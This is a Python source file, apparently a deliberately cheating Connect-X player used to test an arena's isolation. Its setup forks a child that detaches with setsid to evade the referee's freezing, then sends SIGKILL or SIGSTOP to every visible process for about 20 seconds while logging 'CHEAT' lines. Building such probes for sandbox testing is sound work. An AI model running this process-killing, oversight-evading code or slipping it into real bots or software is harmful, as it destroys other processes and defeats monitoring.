"""Sends a signal (option `sig`: SIGKILL or SIGSTOP) to every process it can see but its own,
from a child that keeps at it for the whole game (in a session of its own where it may, so that
the referee's freezing of the bot misses it). Never run without isolation."""

import os
import signal
import sys
import time

from arena.player import CXPlayer


def _attack(sig: int, family: set[int]) -> set[int]:
    hit = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) not in family:
            try:
                os.kill(int(entry), sig)
                hit.add(int(entry))
            except OSError:
                pass
    return hit


class Signaller(CXPlayer):
    sig = "SIGKILL"

    def initPlayer(self, M, N, K, first, timeout_in_secs):
        sig = signal.Signals[self.sig]
        me = os.getpid()
        pid = os.fork()
        if pid == 0:
            try:
                try:
                    os.setsid()  # out of the group the referee freezes, if it may
                except OSError as e:
                    print(f"CHEAT setsid: blocked ({e})", file=sys.stderr, flush=True)
                family = {me, os.getpid()}
                hit: set[int] = set()
                for i in range(2000):  # ~20 s of attacks, through the opponent's turns
                    hit |= _attack(sig, family)
                    if i == 0:
                        print(f"CHEAT {sig.name} every visible process: sent to "
                              f"{sorted(hit)} (visible: {sorted(_visible())})",
                              file=sys.stderr, flush=True)
                    time.sleep(0.01)
            finally:
                os._exit(0)

    def selectColumn(self, B):
        return B.getAvailableColumns()[0]

    def playerName(self):
        return "signaller"


def _visible() -> list[int]:
    return [int(e) for e in os.listdir("/proc") if e.isdigit()]
